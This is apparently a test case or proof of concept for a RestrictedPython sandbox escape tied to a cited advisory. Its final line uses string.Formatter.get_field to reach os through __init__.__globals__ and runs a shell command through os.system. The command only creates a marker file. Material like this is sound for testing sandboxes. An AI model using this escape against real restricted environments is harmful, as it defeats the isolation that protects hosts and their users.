"""string.Formatter gives the object of a field, not its text alone.

Known from: CVE-2024-47532 and GHSA-hp3v-5vw7-fx9w of RestrictedPython
Effect: made
Host: import os, string
Host: class Host:
Host:     def __init__(self): pass
Host: host = Host()
Given: host string
Jail: no builtins
"""
field = "0.__init__.__globals__[os]"
string.Formatter().get_field(field, (host,), {})[0].system(": > made")
